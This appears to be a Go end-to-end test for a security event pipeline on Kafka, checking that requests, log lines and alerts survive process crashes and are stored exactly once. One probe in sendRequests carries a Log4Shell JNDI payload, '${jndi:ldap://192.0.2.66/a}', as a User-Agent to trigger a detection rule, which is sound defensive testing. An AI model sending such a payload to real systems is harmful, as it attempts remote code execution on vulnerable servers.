package main

import (
	"fmt"
	"os"
	"testing"
	"time"

	"tidegate/pipeline/engine"
)

// sendRequests sends requests from outside, and one more that matches a rule.
func (k *kafkaSetup) sendRequests(name string, requests int) {
	k.t.Helper()
	k.mustRun(k.visitorCommand(workload{
		Case: name, Transactions: requests, HTTP: hostIP + ":8080", Interval: 5 * time.Millisecond,
	}))
	probe := "http://" + hostIP + ":8080/probe/" + name
	k.mustRun(k.outsideCommand("curl", "-sf", "-A", "${jndi:ldap://192.0.2.66/a}", probe))
}

// TestKafka runs two engines and a collector on Apache Kafka. The engines share the partitions in a group.
// Both are killed, one of them at failpoints of a block, and so are the collector and the broker. Logs are
// written without a pause; clients pause while the collector is down.
func TestKafka(t *testing.T) {
	if testing.Short() {
		t.Skip("it starts Apache Kafka")
	}
	setup := newKafkaSetup(t)
	self, err := os.Executable()
	setup.check(err)
	web := setup.hostCommand(self)
	web.Env = append(os.Environ(), "TIDEGATE_WORK="+workload{ListenAddr: hostIP + ":8080"}.String())
	setup.startCommand("web", web)
	setup.waitMetrics(enginePort)
	setup.startProcess("analyze-b", []string{"TIDEGATE_FAILPOINT=" + engine.AfterInsert + ":3"}, "analyze")
	for index := range 6 {
		setup.startLogWriter(index, 150+50*index, 4)
	}
	setup.startCollector()
	const requests = 60
	rounds := 0
	sendRequests := func() {
		setup.sendRequests(fmt.Sprintf("k%d", rounds), requests)
		rounds++
	}

	// Both engines are killed; the other one takes over the partitions.
	sendRequests()
	setup.waitKilled("analyze-b", sendRequests)
	setup.startProcess("analyze-b", []string{"TIDEGATE_FAILPOINT=" + engine.AfterIntent + ":2"}, "analyze")
	sendRequests()
	setup.waitKilled("analyze-b", sendRequests)
	setup.killProcess("analyze")
	setup.startProcess("analyze", nil, "analyze")
	setup.startProcess("analyze-b", nil, "analyze")
	sendRequests()

	// While Kafka is down, requests wait in the spool. Lines wait in their files, or in the spool when a file
	// is deleted.
	setup.killProcess("kafka")
	sendRequests()
	setup.startKafka()
	setup.waitKafka()
	sendRequests()

	// The collector is killed when all captured traffic is acknowledged or spooled and no client sends. No
	// file is rotated meanwhile: one that is deleted while no collector runs is lost.
	sent := float64(rounds * (requests + 1))
	setup.waitMetric(collectorPort, `tidegate_collector_events_safe_total{dataset="http"}`, sent)
	setup.rotation.Lock()
	// Lines of a file that is deleted while Kafka is away wait in memory for a moment before they are spooled.
	setup.waitMetric(collectorPort, `tidegate_collector_events_safe_total{dataset="log"}`, setup.writtenLines())
	acknowledged := sumSamples(setup.fetchMetrics(collectorPort), "tidegate_collector_events_safe_total")
	setup.killProcess("collect")
	setup.startCollector()
	sendRequests()
	time.Sleep(time.Second)
	setup.rotation.Unlock()
	time.Sleep(2 * time.Second)
	close(setup.stop)
	setup.running.Wait()

	setup.requireNoFailure()
	setup.expectStored(rounds, requests)
	setup.expectAtLeast("every acknowledged event is stored", `SELECT count() FROM events`, acknowledged)
}

// expectRows does what e2eSystem.expectRows does, and ends the test after a failure.
func (k *kafkaSetup) expectRows(what, sql string, want ...string) {
	k.t.Helper()
	k.e2eSystem.expectRows(what, sql, want...)
	k.requireNoFailure()
}

// expectStored requires that each request, each line and each alert is stored once.
func (k *kafkaSetup) expectStored(rounds, requests int) {
	k.t.Helper()
	for round := range rounds {
		k.expectRows("requests", fmt.Sprintf(`SELECT count(), uniqExact("event.id"), uniqExact("url.path"),
				countIf("event.partial")
			FROM events WHERE "event.dataset" = 'http' AND "url.path" LIKE '/e2e/k%d/%%'`, round),
			fmt.Sprintf("%d %d %d 0", requests, requests, requests))
	}

	var lines, matching []string
	for _, writer := range k.writers {
		suffix, count := writer.id[56:], writer.lines.Load()
		lines = append(lines, fmt.Sprintf("%s %d %d %d", suffix, count, count, count))
		matching = append(matching, fmt.Sprintf("%s %d", suffix, writer.matching.Load()))
	}
	k.expectRows("lines", `SELECT substring("container.id", 57), count(), uniqExact("event.id"), uniqExact(message)
		FROM events WHERE "event.dataset" = 'log' GROUP BY 1 ORDER BY 1`, lines...)

	k.expectRows("alerts of lines", `SELECT substring(container_id, 57), sum(count)
		FROM alerts WHERE rule = 'log-ssh-failed' GROUP BY 1 ORDER BY 1`, matching...)
	k.expectRows("alerts of requests",
		`SELECT sum(count) FROM alerts WHERE rule = 'http-log4shell'`, fmt.Sprint(rounds))
	k.expectRows("alerts count the stored verdicts", `SELECT count()
		FROM (SELECT rule, sum(count) AS n FROM alerts GROUP BY rule) AS a
		FULL OUTER JOIN (SELECT arrayJoin("verdict.rule") AS rule, count() AS n FROM events GROUP BY rule) AS v
		USING (rule) WHERE v.n > 0 AND a.n != v.n`, "0") // rules over several events have no verdicts

	k.expectRows("every event is stored once", `SELECT count() = uniqExact("event.id"),
		count() = uniqExact((_partition, _offset, _index)), uniqExact(_partition) > 1 FROM events`, "1 1 1")
	k.expectRows("every alert is stored once", `SELECT count() = uniqExact(id, revision) FROM alert_revisions`, "1")
}
